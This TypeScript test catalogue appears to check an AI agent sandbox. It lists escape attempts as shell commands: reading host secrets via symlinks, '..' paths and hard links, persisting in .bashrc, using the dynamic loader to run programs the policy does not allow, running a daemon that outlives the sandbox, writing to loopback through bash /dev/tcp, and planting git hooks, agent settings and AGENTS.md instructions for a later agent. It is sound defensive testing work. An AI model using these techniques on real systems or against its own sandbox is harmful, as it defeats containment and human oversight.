/** The local attacks: what is tried, which layers stop it, and how the world shows that it worked. */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, readlinkSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { Attack } from './attack.ts';
import type { Seen } from './world.ts';

const read = (path: string): string => (existsSync(path) ? readFileSync(path, 'utf8') : '');
const gotSecret = ({ world, loot }: Seen): boolean => loot.includes(world.secret);
const gotToken = ({ world, loot }: Seen): boolean => loot.includes(world.token);
const heardToken = ({ world, heard }: Seen): boolean => heard.includes(world.token);
const inScratch = (name: string) => ({ world }: Seen): boolean => read(join(world.scratch, name)).includes(world.token);
const inWorkspace = (name: string, what: 'token' | 'secret' = 'token') => ({ world }: Seen): boolean => read(join(world.workspace, name)).includes(world[what]);
const wrote = (pattern: RegExp) => ({ loot }: Seen): boolean => pattern.test(loot);

/** Node has no call for attributes. */
const hasAttribute = (path: string, text: string): boolean =>
  execFileSync('/usr/bin/python3', ['-c', 'import os,sys\nfor n in os.listxattr(sys.argv[1]): print(os.getxattr(sys.argv[1],n))', path], { encoding: 'utf8' }).includes(text);

/** The policy that every attempt runs under; an entry may add to it. */
export const standardSpec = 'isolation: { network: restricted, filesystem: workspace, syscalls: standard }, filesystem: { deny: [/workspace/keys/**, /workspace/vault/deep/**], readOnly: [/workspace/fixed] }';

const files: readonly Attack[] = [
  { id: 'read-outside', title: 'read a file of the host that everybody may read', stops: ['view'], plain: 'user', attempt: 'cat $HIDDEN/secret >$W/loot', won: gotSecret },
  { id: 'read-by-link', title: 'read it through a link in the workspace', stops: ['view'], plain: 'user', attempt: 'ln -s $HIDDEN/secret $W/link; cat $W/link >$W/loot', won: gotSecret },
  { id: 'read-by-dots', title: 'read it by way of ../..', stops: ['view'], plain: 'user', attempt: 'cd $W && cat ../../../../../..$HIDDEN/secret >$W/loot', won: gotSecret },
  { id: 'read-by-slashes', title: 'read it under another spelling of its path', stops: ['view'], plain: 'user', attempt: 'cat //.$HIDDEN//././secret >$W/loot', won: gotSecret },
  { id: 'list-outside', title: 'list a folder of the host', stops: ['view'], plain: 'user', attempt: 'ls $HIDDEN >$W/loot', won: wrote(/stream\.sock/) },
  { id: 'write-outside', title: "make a file in the host's /tmp", stops: ['view'], plain: 'user', attempt: 'echo $TOKEN >$SCRATCH/new', won: inScratch('new') },
  { id: 'write-by-link', title: 'write through a link in the workspace', stops: ['view'], plain: 'user', attempt: 'ln -s $SCRATCH/open $W/link; echo $TOKEN >>$W/link', won: inScratch('open') },
  { id: 'truncate-outside', title: 'truncate(2) a file of the host by name', stops: ['view'], plain: 'user', attempt: '$TRY cut $SCRATCH/open', won: ({ world }) => statSync(join(world.scratch, 'open')).size === 0 },
  { id: 'persist', title: "leave a line in somebody's shell start file", stops: ['view'], plain: 'user', attempt: 'mkdir -p $SCRATCH/home && echo $TOKEN >>$SCRATCH/home/.bashrc', won: inScratch('home/.bashrc') },
  { id: 'move-out', title: 'rename a file out of the workspace', stops: ['view'], plain: 'user', attempt: 'echo $TOKEN >$W/parcel; mv $W/parcel $SCRATCH/parcel', won: inScratch('parcel') },
  { id: 'host-socket', title: "talk to a host service's Unix socket (as docker.sock)", stops: ['view'], plain: 'user', attempt: '$TRY unix_socket stream $HIDDEN/stream.sock $TOKEN', won: heardToken },
  { id: 'host-datagrams', title: 'send a datagram to a Unix socket (as /dev/log)', stops: ['view'], plain: 'user', attempt: '$TRY unix_socket datagram $HIDDEN/datagram.sock $TOKEN', won: heardToken },
  { id: 'denied-folder', title: 'read what the policy denies inside the workspace', stops: ['mounts'], plain: 'user', attempt: 'cat $W/keys/secret >$W/loot', won: gotSecret },
  { id: 'denied-renamed', title: 'move the folder above a denied one away, then read', stops: ['mounts'], plain: 'user', attempt: 'mv $W/vault $W/moved; cat $W/moved/deep/secret $W/vault/deep/secret >$W/loot', won: gotSecret },
  { id: 'denied-by-link', title: 'read a denied file by a hard link', stops: ['mounts'], plain: 'user', attempt: 'ln $W/keys/secret $W/hard; cat $W/hard >$W/loot', won: gotSecret },
  { id: 'fixed-file', title: 'change what is read-only inside the workspace', stops: ['mounts'], plain: 'user', attempt: 'echo $TOKEN >>$W/fixed/file', won: inWorkspace('fixed/file') },
  { id: 'fixed-replaced', title: 'replace the read-only folder by one of its own', stops: ['mounts'], plain: 'user', attempt: 'mv $W/fixed $W/old; mkdir $W/fixed; echo $TOKEN >$W/fixed/file', won: inWorkspace('fixed/file') },
  { id: 'denied-unmounted', title: 'take away in a mount namespace of its own what hides a denied folder', stops: ['mounts'], plain: 'user', attempt: '$TRY unmount $W/keys $W/keys/secret >$W/loot', won: gotSecret },
  { id: 'nameless', title: 'make a file without a name outside and link it into place', stops: ['view'], plain: 'user', attempt: '$TRY nameless $SCRATCH late $TOKEN', won: inScratch('late') },
  { id: 'attribute', title: 'write an extended attribute of a file shown read-only (Landlock does not see it)', stops: ['view'], plain: 'user', attempt: '$TRY attribute $SHOWN/open $TOKEN', won: ({ world }) => hasAttribute(join(world.shown, 'open'), world.token) },
  { id: 'stamp', title: 'change the times of a file shown read-only (Landlock does not see it)', stops: ['view'], plain: 'user', attempt: '$TRY stamp $SHOWN/open', won: ({ world }) => statSync(join(world.shown, 'open')).mtimeMs !== world.shownSince },
  { id: 'shown-file', title: 'write to a file shown read-only that everybody may write', stops: ['view', 'landlock'], plain: 'user', attempt: 'echo $TOKEN >>$SHOWN/open', won: ({ world }) => read(join(world.shown, 'open')).includes(world.token) },
  { id: 'shown-pipe', title: "write into a host program's pipe in a folder shown read-only", stops: ['landlock'], plain: 'user', attempt: 'timeout 20 sh -c "echo $TOKEN >$SHOWN/pipe"', won: heardToken },
  { id: 'other-program', title: 'run a program that the policy does not name', stops: ['view', 'landlock'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: '/usr/bin/echo $TOKEN >$W/loot', won: gotToken },
  { id: 'dropped-program', title: 'run a program from the workspace by the dynamic loader', stops: ['mounts'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: 'cat /usr/bin/echo >$W/tool; /lib64/ld-linux-x86-64.so.2 $W/tool $TOKEN >$W/loot', won: gotToken },
  { id: 'loader', title: 'run a program that the policy does not name by the dynamic loader', stops: ['view'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: '/lib64/ld-linux-x86-64.so.2 /usr/bin/echo $TOKEN >$W/loot', won: gotToken },
  { id: 'loader-real-name', title: 'run it by the loader under its real name', stops: ['view'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 /usr/bin/echo $TOKEN >$W/loot', won: gotToken },
  { id: 'loader-descriptor', title: 'run it by the loader from an open descriptor', stops: ['view'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: 'exec 7</usr/bin/echo; /lib64/ld-linux-x86-64.so.2 /proc/self/fd/7 $TOKEN >$W/loot', won: gotToken },
  { id: 'dropped-tmp', title: 'run a program from /tmp by the dynamic loader', stops: ['view'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/cat] } }', attempt: 'cat /usr/bin/echo >/tmp/nca-tool-$TOKEN; /lib64/ld-linux-x86-64.so.2 /tmp/nca-tool-$TOKEN $TOKEN >$W/loot; : >/tmp/nca-tool-$TOKEN', won: gotToken },
  { id: 'linked-program', title: 'run a program that the policy does not name by a link with the name of one that it names', stops: ['view', 'landlock'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /usr/bin/ln] } }', attempt: 'ln -s /usr/bin/echo $W/dash; $W/dash $TOKEN >$W/loot', won: gotToken },
  { id: 'program-in-memory', title: 'run a program that the policy does not name from a file in memory', stops: ['seccomp'], plain: 'user', spec: 'process: { exec: { allow: [/usr/bin/dash, /workspace/tries] } }', attempt: '$TRY from_memory /usr/bin/echo $TOKEN >$W/loot', won: gotToken },
];

const processes: readonly Attack[] = [
  { id: 'root-file', title: "read root's own file in a folder that is shown", stops: ['uid'], plain: 'root', attempt: 'cat $SHOWN/root-only >$W/loot', won: gotSecret },
  { id: 'root-socket', title: 'talk to a socket that only root may use', stops: ['uid'], plain: 'root', attempt: '$TRY unix_socket stream $SHOWN/root.sock $TOKEN', won: heardToken },
  { id: 'change-mode', title: 'chmod a file of the host (Landlock does not see it)', stops: ['view', 'uid'], plain: 'root', attempt: '$TRY change_mode $SHOWN/open 0751', won: ({ world }) => (statSync(join(world.shown, 'open')).mode & 0o777) === 0o751 },
  { id: 'by-handle', title: 'open a file by its handle, where no path leads (shocker)', stops: ['seccomp', 'uid'], with: ['caps'], plain: 'root', attempt: '$TRY by_handle $SHOWN $HANDLE_TYPE $HANDLE >$W/loot', won: gotSecret },
  { id: 'kill-neighbour', title: 'kill a host process of the same uid', stops: ['pidns', 'landlock'], plain: 'user', attempt: '$TRY kill_it $NEIGHBOUR', won: ({ world }) => !world.neighbourLives },
  { id: 'trace-neighbour', title: 'attach to a host process of the same uid and end it', stops: ['pidns', 'landlock'], plain: 'user', attempt: 'timeout 20 $TRY trace_it $NEIGHBOUR', won: ({ world }) => !world.neighbourLives },
  { id: 'neighbour-environment', title: 'read the environment of a host process of the same uid', stops: ['pidns', 'landlock'], plain: 'user', attempt: 'cat /proc/$NEIGHBOUR/environ >$W/loot', won: gotSecret },
  { id: 'outlive', title: 'live on as a daemon when the sandbox is gone', stops: ['pidns'], plain: 'user', attempt: '$TRY outlive $W/later $TOKEN', won: inWorkspace('later') },
  { id: 'set-uid', title: 'leave a set-uid program in the workspace', stops: ['seccomp'], plain: 'user', attempt: '$TRY set_uid $W/left', won: ({ world }) => existsSync(join(world.workspace, 'left')) && (statSync(join(world.workspace, 'left')).mode & 0o4000) !== 0 },
  { id: 'device', title: 'make a block device in the workspace', stops: ['seccomp', 'uid', 'landlock'], with: ['caps'], plain: 'root', attempt: '$TRY device $W/disk', won: ({ world }) => existsSync(join(world.workspace, 'disk')) && statSync(join(world.workspace, 'disk')).isBlockDevice() },
  { id: 'memory', title: 'take more memory than the policy grants', stops: ['limits'], plain: 'user', spec: 'resources: { maxMemory: 128Mi }', attempt: '$TRY memory 300 >$W/loot', won: wrote(/took M/) },
  { id: 'processes', title: 'start more processes than the policy grants', stops: ['limits'], plain: 'user', spec: 'resources: { maxPids: 64 }', attempt: '$TRY processes 200 >$W/loot', won: wrote(/made 200/) },
  { id: 'user-namespace', title: 'make a user namespace (root in it)', stops: ['seccomp'], plain: 'user', attempt: '$TRY user_namespace >$W/loot', won: ({ loot }) => /^user:\[\d+\]/.test(loot) && loot.trim() !== readlinkSync('/proc/self/ns/user') },
  { id: 'io-uring', title: 'get a ring that does system calls unseen (io_uring)', stops: ['seccomp'], plain: 'user', mayLack: 'io_uring', attempt: '$TRY ring >$W/loot', won: wrote(/io_uring/) },
  { id: 'keyring', title: "keep data in the kernel's key rings", stops: ['seccomp'], plain: 'user', attempt: '$TRY keys $TOKEN >$W/loot', won: gotToken },
  { id: 'bpf', title: 'make a BPF map', stops: ['seccomp', 'uid'], with: ['caps'], plain: 'root', attempt: '$TRY bpf_map >$W/loot', won: wrote(/bpf-map/) },
  { id: 'kernel-crypto', title: "reach the kernel's crypto by a socket (AF_ALG)", stops: ['seccomp'], plain: 'user', mayLack: 'AF_ALG', attempt: '$TRY kernel_crypto >$W/loot', won: wrote(/socket:/) },
  { id: 'vsock', title: 'get a socket to the hypervisor (AF_VSOCK)', stops: ['seccomp'], plain: 'user', mayLack: 'AF_VSOCK', attempt: '$TRY vsock >$W/loot', won: wrote(/socket:/) },
  { id: 'not-random', title: 'start programs without address randomisation', stops: ['seccomp'], plain: 'user', attempt: '$TRY not_random >$W/loot', won: wrote(/personality 4/) },
];

const network: readonly Attack[] = [
  { id: 'host-tcp', title: "connect to a service on the host's loopback", stops: ['netns'], plain: 'user', attempt: '$TRY internet plain $PORT $TOKEN', won: heardToken },
  { id: 'fast-open', title: 'the same by TCP Fast Open, without connect(2)', stops: ['netns'], plain: 'user', attempt: '$TRY internet fastopen $PORT $TOKEN', won: heardToken },
  { id: 'multipath', title: 'the same by Multipath TCP', stops: ['netns', 'seccomp'], plain: 'user', mayLack: 'MPTCP', attempt: '$TRY internet multipath $PORT $TOKEN', won: heardToken },
  { id: 'host-udp', title: 'send a datagram to the host', stops: ['netns'], plain: 'user', attempt: '$TRY internet datagram $DATAGRAMS $TOKEN', won: heardToken },
  { id: 'shell-tcp', title: 'the same from bash, with no proxy variables', stops: ['netns'], plain: 'user', attempt: 'bash -c "echo $TOKEN >/dev/tcp/127.0.0.1/$PORT"', won: heardToken },
  { id: 'listen', title: 'listen where the host can come by', stops: ['netns'], plain: 'user', attempt: '$TRY offer $BACK $TOKEN', won: heardToken },
  { id: 'abstract-socket', title: 'talk to an abstract Unix socket of the host', stops: ['netns', 'landlock'], plain: 'user', attempt: '$TRY abstract_socket $ABSTRACT $TOKEN', won: heardToken },
  { id: 'see-interfaces', title: "see the host's network interfaces", stops: ['netns'], plain: 'user', attempt: 'cat /proc/net/dev >$W/loot', won: ({ loot }) => loot.split('\n').some((line) => /^\s*\w+:/.test(line) && !/^\s*lo:/.test(line)) },
];

/** Left in the workspace for whoever opens it afterwards; looked at after the workspace is given back. */
const later: readonly Attack[] = [
  { id: 'hook', title: 'a hook in a new repository', stops: ['protect'], plain: 'user', attempt: 'git init -q $W/new; echo $TOKEN >$W/new/.git/hooks/pre-commit', won: inWorkspace('new/.git/hooks/pre-commit') },
  { id: 'git-settings', title: 'settings of a new repository that name a program', stops: ['protect'], plain: 'user', attempt: 'git init -q $W/new; git -C $W/new config core.fsmonitor "$TOKEN"', won: inWorkspace('new/.git/config') },
  { id: 'bare-repository', title: 'a folder that is a bare repository in disguise', stops: ['protect'], plain: 'user', attempt: 'mkdir -p $W/docs/objects $W/docs/refs; echo "ref: refs/heads/x" >$W/docs/HEAD; printf "[core]\\n\\tfsmonitor = $TOKEN\\n" >$W/docs/config', won: inWorkspace('docs/config') },
  { id: 'git-elsewhere', title: 'a .git file that points out of the workspace', stops: ['protect'], plain: 'user', attempt: 'mkdir $W/sub; echo "gitdir: ../../../$TOKEN" >$W/sub/.git', won: inWorkspace('sub/.git') },
  { id: 'shell-file', title: 'what a shell runs when it enters the folder', stops: ['protect'], plain: 'user', attempt: 'mkdir $W/a; echo $TOKEN >$W/a/.envrc', won: inWorkspace('a/.envrc') },
  { id: 'editor-task', title: 'a task that an editor starts, in folders closed to everybody', stops: ['protect'], plain: 'user', attempt: 'mkdir -p $W/a/.vscode; echo $TOKEN >$W/a/.vscode/tasks.json; chmod 0 $W/a/.vscode $W/a', won: inWorkspace('a/.vscode/tasks.json') },
  { id: 'agent-settings', title: 'settings of the next agent, in another case', stops: ['protect'], plain: 'user', attempt: 'mkdir $W/.Claude; echo $TOKEN >$W/.Claude/settings.json', won: inWorkspace('.Claude/settings.json') },
  { id: 'workflow-by-link', title: 'a workflow through a link in the place of .github', stops: ['protect'], plain: 'user', attempt: 'mkdir -p $W/g/workflows; echo $TOKEN >$W/g/workflows/ci.yml; ln -s g $W/.github', won: inWorkspace('.github/workflows/ci.yml') },
  { id: 'instructions', title: 'instructions for the next agent, through a hard link', stops: ['protect'], plain: 'user', attempt: 'echo $TOKEN >$W/text; ln $W/text $W/AGENTS.md', won: inWorkspace('AGENTS.md') },
];

export const attacks: readonly Attack[] = [...files, ...processes, ...network, ...later];
